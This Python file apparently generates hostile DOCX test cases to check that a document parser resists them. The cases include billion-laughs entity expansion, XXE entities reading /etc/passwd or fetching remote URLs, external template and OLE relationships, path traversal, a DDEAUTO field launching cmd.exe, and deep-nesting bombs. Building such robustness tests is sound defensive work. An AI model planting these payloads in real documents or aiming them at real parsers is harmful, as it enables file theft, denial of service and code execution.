"""DOCX: the XML inside. Entities, depth, crowds, circles, references to places outside the file."""

from __future__ import annotations

import random
from collections.abc import Iterator

from scripts.hostile.case import DAMAGED, GOOD, LIMIT, OK, PARTIAL, Case
from scripts.hostile.word_writer import W, document, docx, link, links, paragraph

GOES_ON = (OK, PARTIAL)
BILLION = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10 if n else "ha"}">' for n in range(10))


def _word(family: str, variant: str, content: bytes, *outcomes: str, shows: str = GOOD) -> Case:
    wanted = shows if set(outcomes) <= set(GOES_ON) else ""
    return Case(f"docx-{family}", variant, ".docx", content, outcomes, wanted, never="root:")


def _entities(chance: random.Random) -> Iterator[Case]:
    """No Word file declares a document type; whatever does is refused, in every encoding."""
    words = document(paragraph("&e9;"))
    for variant, head in (
        ("billion", f"<!DOCTYPE x [{BILLION}]>"),
        ("file", '<!DOCTYPE x [<!ENTITY e9 SYSTEM "file:///etc/passwd">]>'),
        ("network", '<!DOCTYPE x [<!ENTITY e9 SYSTEM "http://192.0.2.1/x">]>'),
        ("parameter", '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/x"> %p;]>'),
        ("outside", '<!DOCTYPE x SYSTEM "http://192.0.2.1/x.dtd">'),
        ("quadratic", f'<!DOCTYPE x [<!ENTITY e9 "{"a" * 100_000}">]>'),
    ):
        yield _word("entity", variant, docx(more={"word/document.xml": (head + words).encode()}), DAMAGED)
    text = f'<!DOCTYPE x [<!ENTITY e9 "boo">]>{words}'
    for encoding in ("utf-16", "utf-16-le", "utf-32", "utf-7", "cp037"):
        declared = f'<?xml version="1.0" encoding="{encoding.upper() if encoding != "cp037" else "IBM037"}"?>{text}'
        yield _word("entity", encoding, docx(more={"word/document.xml": declared.encode(encoding)}), DAMAGED)
    typed = f"<!DOCTYPE x [{BILLION}]>" + links([link(1, "officeDocument", "word/document.xml")])
    yield _word("entity", "relations", docx(more={"_rels/.rels": typed.encode()}), DAMAGED)
    styles = f'<!DOCTYPE x [{BILLION}]><w:styles xmlns:w="{W}"><w:style w:styleId="&e9;"/></w:styles>'
    yield _word("entity", "attribute", docx(more={"word/styles.xml": styles.encode()}), DAMAGED)


def _depth(chance: random.Random) -> Iterator[Case]:
    """Tables, controls, boxes and plain elements one within the other."""
    depth = chance.randint(1_800, 2_200)
    good = paragraph(GOOD)
    for variant, opening, closing in (
        ("tables", "<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"),
        ("controls", "<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>"),
        ("insertions", "<w:ins>", "</w:ins>"),
        ("links", "<w:p>" + "<w:hyperlink>", "</w:hyperlink></w:p>"),
        ("unknown", "<w:x>", "</w:x>"),
    ):
        yield _word("deep", variant, docx(good + opening * depth + good + closing * depth), DAMAGED, *GOES_ON)
        few = 25
        yield _word("deep", f"{variant}-{few}", docx(good + opening * few + good + closing * few), *GOES_ON, DAMAGED)
    boxes = "<w:p><w:r><w:pict><w:txbxContent>" * 300 + good + "</w:txbxContent></w:pict></w:r></w:p>" * 300
    yield _word("deep", "boxes", docx(good + boxes), DAMAGED, *GOES_ON)
    yield _word("deep", "lines", docx(good + "<w:x>" * 300_000), DAMAGED)


def _crowds(chance: random.Random) -> Iterator[Case]:
    """A million of anything."""
    million = chance.randint(950_000, 1_050_000)
    runs = "".join(f"<w:r><w:t>{chance.randrange(10**9)} </w:t></w:r>" for _ in range(million // 4)) * 4
    yield _word("crowd", "runs", docx(f"{paragraph(GOOD)}<w:p>{runs}</w:p>"), OK, PARTIAL, LIMIT, DAMAGED)
    empty = paragraph(GOOD) + "<w:p/>" * million
    yield _word("crowd", "empty-paragraphs", docx(empty), DAMAGED)
    rows = "".join(f"<w:tr><w:tc>{paragraph(str(chance.random()))}</w:tc></w:tr>" for _ in range(60_000))
    yield _word("crowd", "rows", docx(f"{paragraph(GOOD)}<w:tbl>{rows}</w:tbl>"), OK, PARTIAL)
    attributes = " ".join(f'a{n}="{chance.random()}"' for n in range(100_000))
    yield _word("crowd", "attributes", docx(f"{paragraph(GOOD)}<w:p {attributes}/>"), OK, PARTIAL)
    text = "".join(f"{chance.random()} " for _ in range(500_000))
    yield _word("crowd", "one-run", docx(paragraph(GOOD) + paragraph(text)), LIMIT, DAMAGED)
    namespaces = " ".join(f'xmlns:n{n}="u{chance.random()}"' for n in range(20_000))
    yield _word("crowd", "namespaces", docx(f"{paragraph(GOOD)}<w:p {namespaces}/>"), OK, PARTIAL)
    breaks = '<w:p><w:r><w:br w:type="page"/></w:r></w:p>' + paragraph("x")
    pages = "".join(breaks + paragraph(str(chance.random())) for _ in range(20_000))
    yield _word("crowd", "pages", docx(paragraph(GOOD) + pages), PARTIAL)
    blips = "<w:p><w:r><w:drawing><w:blip/></w:drawing></w:r></w:p>" + paragraph(GOOD)
    yield _word("crowd", "pictures", docx(blips), PARTIAL)


def _circles(chance: random.Random) -> Iterator[Case]:
    """Styles based on themselves, notes that note themselves, lists that number without end."""
    loop = (
        '<w:style w:type="paragraph" w:styleId="A"><w:basedOn w:val="B"/></w:style>'
        '<w:style w:type="paragraph" w:styleId="B"><w:basedOn w:val="A"/></w:style>'
    )
    styled = paragraph(GOOD, properties='<w:pStyle w:val="A"/>')
    related = [
        link(1, "styles", "styles.xml"),
        link(2, "numbering", "numbering.xml"),
        link(3, "footnotes", "footnotes.xml"),
        link(4, "comments", "comments.xml"),
        link(5, "header", "document.xml"),
    ]

    def part(root: str, inner: str) -> bytes:
        return f'<w:{root} xmlns:w="{W}">{inner}</w:{root}>'.encode()

    yield _word("circle", "styles", docx(styled, {"word/styles.xml": part("styles", loop)}, related[:1]), *GOES_ON)
    note = '<w:footnote w:id="1">' + "<w:p><w:r><w:footnoteReference w:id='1'/></w:r></w:p></w:footnote>"
    body = paragraph(GOOD) + "<w:p><w:r><w:footnoteReference w:id='1'/></w:r></w:p>" * 50
    noted = {"word/footnotes.xml": part("footnotes", note)}
    yield _word("circle", "footnotes", docx(body, noted, related[2:3]), *GOES_ON)
    said = "".join(
        f'<w:comment w:id="{n}" w:author="\u202eevil">{paragraph("x" * 400)}</w:comment>' for n in range(1000)
    )
    refer = paragraph(GOOD) + "".join(f"<w:p><w:r><w:commentReference w:id='{n}'/></w:r></w:p>" for n in range(1000))
    yield _word(
        "circle", "comments", docx(refer, {"word/comments.xml": part("comments", said)}, related[3:4]), *GOES_ON
    )
    for variant, number in (("huge", 2**31 - 1), ("negative", -(2**31)), ("roman", 3_999)):
        form = "upperRoman" if variant == "roman" else "upperLetter"
        level = (
            f'<w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="{number}"/>'
            f'<w:numFmt w:val="{form}"/>'
            f'<w:lvlText w:val="{"%1%9" * chance.randint(900, 1100)}"/></w:lvl></w:abstractNum>'
            '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>'
        )
        items = paragraph(GOOD, properties='<w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr>') * 20
        held = {"word/numbering.xml": part("numbering", level)}
        yield _word("circle", f"numbers-{variant}", docx(items, held, related[1:2]), *GOES_ON)
    yield _word("circle", "header", docx(related=related[4:]), *GOES_ON)


def _outside(chance: random.Random) -> Iterator[Case]:
    """Relationships to other machines and to files of this one: counted, said, never followed."""
    kinds = {
        "template": ("attachedTemplate", "http://192.0.2.1/t.dotm"),
        "picture": ("image", "\\\\192.0.2.1\\share\\x.png"),
        "frame": ("frame", "file:///etc/passwd"),
        "object": ("oleObject", "http://192.0.2.1/x.bin"),
        "subdocument": ("subDocument", "file:///etc/passwd"),
    }
    for variant, (kind, target) in kinds.items():
        yield _word("outside", variant, docx(related=[link(1, kind, target, "External")]), PARTIAL)
    yield _word("outside", "inside-climbs", docx(related=[link(1, "styles", "../../../../etc/passwd")]), *GOES_ON)
    field = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r>'
        "<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"
        ' "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    yield _word("outside", "dde", docx(paragraph(GOOD) + field), *GOES_ON)
    macro = {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(600), "word/embeddings/o.bin": b"MZ" + bytes(99)}
    yield _word("outside", "macro", docx(more=macro), PARTIAL)
    chunk = paragraph(GOOD) + '<w:altChunk r:id="r1" xmlns:r="x"/>'
    yield _word("outside", "chunk", docx(chunk, {"word/c.html": b"<script>1</script>"}), PARTIAL)


def _odd(chance: random.Random) -> Iterator[Case]:
    """XML that is not, encodings that are not, characters that are hostile."""
    main = "word/document.xml"
    good = document(paragraph(GOOD))
    kinds = {
        "not-xml": (b"this is no XML", (DAMAGED,)),
        "empty": (b"", (DAMAGED,)),
        "cut": (good.encode()[:-30], (DAMAGED,)),
        "encoding-unknown": (b'<?xml version="1.0" encoding="x-klingon"?>' + good.encode(), (DAMAGED,)),
        "encoding-false": (good.encode().replace(b"roof", b"\xff\xfe"), (DAMAGED,)),
        "utf-16": (('<?xml version="1.0" encoding="UTF-16"?>' + good).encode("utf-16"), GOES_ON),
        "noise": (chance.randbytes(3_000), (DAMAGED,)),
        "two-roots": ((good + good).encode(), (DAMAGED,)),
        "nul": (good.replace("roof", "ro\x00of").encode(), (DAMAGED,)),
        "no-namespace": (b"<document><body><p><r><t>" + GOOD.encode() + b"</t></r></p></body></document>", GOES_ON),
        "instructions": (b'<?xml-stylesheet href="http://192.0.2.1/x.xsl"?>' + good.encode(), GOES_ON),
    }
    for variant, (content, outcomes) in kinds.items():
        yield _word("xml", variant, docx(more={main: content}), *outcomes)
    words = paragraph(GOOD) + paragraph("\u202egnirts\u202c \u2066x\u2069 \U000e0041\U000e0042 a\u200bb &#x9b;31m")
    yield Case("docx-xml", "bidi", ".docx", docx(words), GOES_ON, GOOD, never="\u202e")


LIGHT = (_entities, _outside, _odd)
DEAR = (_depth, _crowds, _circles)
"""Those whose files take seconds or hundreds of megabytes to make or to read."""
